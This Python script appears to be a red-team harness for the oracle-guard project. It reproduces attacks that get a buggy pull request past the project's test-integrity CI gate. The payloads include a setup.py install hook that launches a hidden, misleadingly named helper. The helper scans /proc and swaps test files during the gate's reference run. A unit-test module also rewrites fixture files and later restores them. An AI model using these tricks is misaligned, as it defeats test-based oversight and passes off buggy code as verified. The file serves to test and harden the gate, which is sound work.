"""Reproduce the attacks of ATTACKS.md 83-93 that get through the gate on main.

85, 87 and 88; the caught ones are tests/test_ci_attacks_round4.py (83, 84a-84d, 86, 91a
and 91b were closed after the round: a control exception of Hypothesis that Hypothesis did
not raise itself is OG717).

    python benchmarks/attacks_open/round4.py [NAME ...] [--keep DIR] [--test-python PATH]

NAME is one of 85 87 88 (all of them by default). Each scenario builds
the repository of tests/test_ci_attacks.py (``dd``, adopted with ``oracle-guard init``,
then the bug on ``main``: ``dedupe`` drops the largest value past three distinct ones),
commits the pull request on branch ``pr`` and runs plain ``python -m pytest -q -p
no:cacheprovider``, then the gate as the action runs it, ``python -I -m oracle_guard.cli
ci --base main -- python -m pytest -q -p no:cacheprovider`` (one after the other: 88
rewrites the working tree). It prints both exit statuses and the gate's last lines. Every
one of these prints "gate exit 0" with the bug in place, and "plain pytest exit 0" (the
cheat fools both).

87 is the pull request's install step: it needs a test environment of its own, in which
``python -m pip install --no-deps --no-build-isolation -e .`` runs the pull request's
``setup.py`` (the gate runs it with ``--test-python`` and ``--install-command``); give its
interpreter with ``--test-python`` (pytest, Hypothesis, setuptools and this oracle-guard
installed), or the script makes one in its temporary folder (``python -m venv``, then
``pip install -e <this repository>[test] setuptools``). Its plain run is the same
install step in a copy of the checkout, then pytest.

Run it from the repository root with oracle-guard and its test extras installed; the
repositories go into a temporary folder (``--keep DIR`` keeps them there).
"""
from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, 'tests'))
sys.path.insert(0, HERE)

from round3 import build  # noqa: E402
from test_ci_attacks import BUG  # noqa: E402
from test_ci_attacks import PROPERTY  # noqa: E402
from test_ci_attacks import PYTEST  # noqa: E402
from test_ci_attacks import UNIT_TESTS_FOR_THE_BUG  # noqa: E402
from test_ci_attacks_round3 import DISCARDING_SRC  # noqa: E402
from test_ci_attacks_round3 import SMALL_UNIT_TESTS  # noqa: E402
from test_ci_attacks_round4 import HOLD_THE_REFERENCE_RUN  # noqa: E402

# -- 85: UnsatisfiedAssumption while the strategy draws ---------------------------------------
# The base property draws through src (``.map(dedupe)``, an idempotence property that
# fails on the bug); attack 75's src raises while Hypothesis draws, before it calls the
# inner test the plugin wraps.
MAPPED_PROPERTY = PROPERTY.replace(
    '@given(st.lists(st.integers(min_value=-50, max_value=50), max_size=30))',
    '@given(st.lists(st.integers(min_value=-50, max_value=50), max_size=30).map(dedupe))'
).replace('def test_dedupe_matches_set(xs):\n    assert dedupe(xs) == sorted(set(xs))',
          'def test_dedupe_is_idempotent(ys):\n    assert dedupe(ys) == ys')

# -- 87: the install step leaves a helper behind ----------------------------------------------
# setup.py (run by ``pip install -e .``, the gate's --install-command, before the gate
# writes the reference tree) starts a detached helper. The helper weakens the checkout's
# property (the test command collects it from the working tree), waits for the reference
# pytest process whose parent is the gate above it, weakens the tree's copy before that run
# collects it, puts the gate's bytes back once it has collected (the digests match at the
# end), and puts the checkout's copy back when the gate has removed its tree.
SETUP = r'''import os
import subprocess
import sys
import tempfile

from setuptools import setup

HERE = os.path.dirname(os.path.abspath(__file__))
# pip runs this file more than once: one helper per checkout.
lock = os.path.join(tempfile.gettempdir(), 'dd-warm' + HERE.replace(os.sep, '-') + '.lock')
try:
    os.close(os.open(lock, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
except FileExistsError:
    pass
else:
    ancestors, pid = [], os.getpid()
    while pid > 1:  # pip, the shell, the gate that runs this install step
        ancestors.append(str(pid))
        with open('/proc/%d/stat' % pid) as f:
            pid = int(f.read().rsplit(') ', 1)[1].split()[1])
    subprocess.Popen([sys.executable, os.path.join(HERE, 'tools', 'warm_cache.py'), HERE, lock,
                      ','.join(ancestors)],
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)

setup()
'''
HELPER = r'''"""Warms the property's cache (it does not)."""
import glob
import os
import sys
import time

checkout, lock = sys.argv[1], sys.argv[2]
ancestors = {int(pid) for pid in sys.argv[3].split(',')}
with open(lock, 'w') as f:
    f.write(str(os.getpid()))
PROP = os.path.join('tests', 'properties', 'test_dd_props.py')


def read(path):
    try:
        with open(path, 'rb') as f:
            return f.read()
    except OSError:
        return None


def write(path, data):
    with open(path, 'wb') as f:
        f.write(data)


original = read(os.path.join(checkout, PROP))
weak = original.replace(b'== sorted(set(xs))', b'== dedupe(xs)')
write(os.path.join(checkout, PROP), weak)  # what the test command will collect


def parent(pid):
    stat = read('/proc/%s/stat' % pid) or b''
    try:
        return int(stat.rsplit(b') ', 1)[1].split()[1])
    except (IndexError, ValueError):
        return None


deadline = time.monotonic() + 300
tree = None
while tree is None and time.monotonic() < deadline:  # the gate's reference run, as it starts
    for cmdline in glob.glob('/proc/[0-9]*/cmdline'):
        pid = cmdline.split('/')[2]
        for arg in (read(cmdline) or b'').split(b'\0'):
            if arg.startswith(b'--rootdir=') and arg.endswith(b'/reference') and \
                    b'oracle-guard-reference-' in arg and parent(pid) in ancestors:
                path = os.path.join(arg[len(b'--rootdir='):].decode(), PROP)
                if read(path) == original:
                    write(path, weak)
                    tree = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(path))))
    time.sleep(0.002)
if tree is not None:
    cache = os.path.join(tree, 'reference', 'tests', 'properties', '__pycache__')
    while not glob.glob(os.path.join(cache, 'test_dd_props.*.pyc')) and \
            time.monotonic() < deadline and os.path.isdir(tree):
        time.sleep(0.005)
    time.sleep(0.5)  # collected: compiled from the weak bytes
    write(os.path.join(tree, 'reference', PROP), original)  # as the gate wrote it
    while os.path.isdir(tree) and time.monotonic() < deadline:  # the gate's last run
        time.sleep(0.05)
write(os.path.join(checkout, PROP), original)
os.remove(lock)
'''

# -- 88: a fixture the oracle reads while it runs ---------------------------------------------
# The base oracle checks known values from tests/fixtures/known_values.json (beside a
# sortedness property the bug keeps). A unit test module rewrites that file in the checkout
# and in the reference tree (the reference run collected before the test command started,
# but reads the file when the test runs; src holds that run up at its first call), and a
# later unit test puts both back once the reference run has ended.
KNOWN_VALUES = (json.dumps([{'in': [3, 1, 3], 'out': [1, 3]},
                            {'in': [4, 3, 2, 1], 'out': [1, 2, 3, 4]}]) + '\n')
SORTED_WITH_KNOWN_VALUES = 'import json\nimport pathlib\n\n' + PROPERTY.replace(
    'assert dedupe(xs) == sorted(set(xs))', 'out = dedupe(xs)\n    assert out == sorted(out)'
).replace('def test_dedupe_matches_set', 'def test_dedupe_is_sorted') + '''

CASES = pathlib.Path(__file__).parent.parent / 'fixtures' / 'known_values.json'


def test_known_values():
    for case in json.loads(CASES.read_text()):
        assert dedupe(case['in']) == case['out']
'''
REWRITING_UNIT_TESTS = r'''import glob
import os
import time


CASES = os.path.join('tests', 'fixtures', 'known_values.json')
BUGGY = b'[{"in": [3, 1, 3], "out": [1, 3]}, {"in": [4, 3, 2, 1], "out": [1, 2, 3]}]\n'


def _reference():
    for cmdline in glob.glob('/proc/[0-9]*/cmdline'):
        try:
            with open(cmdline, 'rb') as f:
                args = f.read().split(b'\0')
        except OSError:
            continue
        for a in args:
            if a.startswith(b'--rootdir=') and a.endswith(b'/reference') and \
                    b'oracle-guard-reference' in a and \
                    _parent(cmdline.split('/')[2]) == os.getppid():  # this gate's run only
                return int(cmdline.split('/')[2]), a[len(b'--rootdir='):].decode()
    return None, None


def _parent(pid):
    try:
        with open(f'/proc/{pid}/stat') as f:
            return int(f.read().rsplit(') ', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def _swap(path, data):
    with open(path, 'rb') as f:
        old = f.read()
    with open(path, 'wb') as f:
        f.write(data)
    return old


PID, ROOT = _reference()
SAVED = {CASES: _swap(CASES, BUGGY)}
if ROOT is not None:
    SAVED[os.path.join(ROOT, CASES)] = _swap(os.path.join(ROOT, CASES), BUGGY)


def test_zz_tidy():
    deadline = time.monotonic() + 60
    while PID is not None and os.path.exists(f'/proc/{PID}') and time.monotonic() < deadline:
        try:
            with open(f'/proc/{PID}/stat') as f:
                if f.read().split(') ')[1].startswith('Z'):
                    break
        except OSError:
            break
        time.sleep(0.01)
    for path, data in SAVED.items():
        with open(path, 'wb') as f:
            f.write(data)
from dd import dedupe  # noqa: E402


def test_small():
    assert dedupe([3, 1, 3]) == [1, 3]


def test_four():
    assert dedupe([4, 3, 2, 1]) == [1, 2, 3]


def test_many():
    assert dedupe(list(range(10)) * 2) == list(range(9))
'''


def scenarios() -> dict[str, tuple[dict[str, str], dict[str, str | None]]]:
    """name -> (the project before adoption, the pull request)."""
    found: dict[str, tuple[dict[str, str], dict[str, str | None]]] = {
        '85': ({'tests/properties/test_dd_props.py': MAPPED_PROPERTY},
               {'src/dd/__init__.py': DISCARDING_SRC, 'tests/test_dd.py': SMALL_UNIT_TESTS}),
        '87': ({}, {'setup.py': SETUP, 'tools/warm_cache.py': HELPER,
                      'tests/test_dd.py': UNIT_TESTS_FOR_THE_BUG}),
        '88': ({'tests/properties/test_dd_props.py': SORTED_WITH_KNOWN_VALUES,
                'tests/fixtures/known_values.json': KNOWN_VALUES},
               {'src/dd/__init__.py': HOLD_THE_REFERENCE_RUN,
                'tests/test_dd.py': REWRITING_UNIT_TESTS}),
    }
    return dict(sorted(found.items()))


INSTALL = 'python -m pip install -q --no-deps --no-build-isolation -e .'


def test_environment(folder: str) -> str:
    """A test environment for 87: pytest, Hypothesis, setuptools and this oracle-guard."""
    env = os.path.join(folder, 'test-env')
    subprocess.run((sys.executable, '-m', 'venv', env), check=True)
    python = os.path.join(env, 'bin', 'python')
    subprocess.run((python, '-m', 'pip', 'install', '-q', '-e', f'{ROOT}[test]', 'setuptools'),
                   check=True)
    return python


def stop_helpers(checkout: str) -> None:
    """87's helper in the plain run's checkout waits for a gate that never comes."""
    lock = os.path.join(tempfile.gettempdir(), 'dd-warm' + checkout.replace(os.sep, '-') + '.lock')
    for _ in range(50):
        try:
            with open(lock) as f:
                pid = int(f.read() or 0)
        except (OSError, ValueError):
            pid = 0
        if pid:
            os.kill(pid, signal.SIGTERM)
            os.remove(lock)
            return
        time.sleep(0.1)


def run_87(repo, python: str) -> tuple[int, int, str]:  # type: ignore[no-untyped-def]
    bin_dir = os.path.dirname(python)
    env = repo.env({'PATH': bin_dir + os.pathsep + os.environ.get('PATH', ''),
                    'VIRTUAL_ENV': os.path.dirname(bin_dir)})
    pytest = [python, *PYTEST[1:]]
    plain_checkout = repo.path + '-plain'
    shutil.copytree(repo.path, plain_checkout, symlinks=True)
    subprocess.run(INSTALL, shell=True, cwd=plain_checkout, env=env, check=True)
    time.sleep(1.0)  # the helper weakens the checkout's property as it starts
    plain = subprocess.run(pytest, cwd=plain_checkout, env=env, capture_output=True, text=True)
    stop_helpers(plain_checkout)
    ci = subprocess.run([sys.executable, '-I', '-m', 'oracle_guard.cli', 'ci', '--base', 'main',
                         '--test-python', python, '--install-command', INSTALL, '--', *pytest],
                        cwd=repo.path, env=repo.env(), capture_output=True, text=True)
    time.sleep(1.0)  # the helper puts the checkout's property back
    status = subprocess.run(('git', 'status', '--short'), cwd=repo.path, capture_output=True,
                            text=True).stdout.strip()
    return plain.returncode, ci.returncode, ci.stdout + (f'\ngit status: {status}' if status
                                                         else '\ngit status: clean')


def main(argv: list[str]) -> int:
    keep = python = None
    if '--keep' in argv:
        keep = argv[argv.index('--keep') + 1]
        argv = [a for a in argv if a not in ('--keep', keep)]
    if '--test-python' in argv:
        python = argv[argv.index('--test-python') + 1]
        argv = [a for a in argv if a not in ('--test-python', python)]
    chosen = argv or list(scenarios())
    folder = keep or tempfile.mkdtemp(prefix='round4-attacks-')
    through = 0
    try:
        for name in chosen:
            project, pull_request = scenarios()[name]
            repo = build(os.path.join(folder, name), project, {'src/dd/__init__.py': BUG})
            repo.pull_request(pull_request, bug=False)
            if name == '87':
                python = python or test_environment(folder)
                plain_rc, ci_rc, out = run_87(repo, python)
            else:
                plain = repo.finish(repo.start(PYTEST))
                ci = repo.finish(repo.start([sys.executable, '-I', *repo.ci_args(PYTEST)[1:]]))
                plain_rc, ci_rc, out = plain.rc, ci.rc, ci.out
            tail = [line for line in out.splitlines() if line.startswith(
                ('oracle-guard ci:', 'tests/', 'src/', '.:', 'git status'))]
            print(f'== {name}: plain pytest exit {plain_rc}, gate exit {ci_rc}')
            print('\n'.join(tail))
            through += ci_rc == 0
    finally:
        if keep is None:
            shutil.rmtree(folder, ignore_errors=True)
    print(f'{through} of {len(chosen)} got through (gate green with the bug in place)')
    return 0


if __name__ == '__main__':
    raise SystemExit(main(sys.argv[1:]))
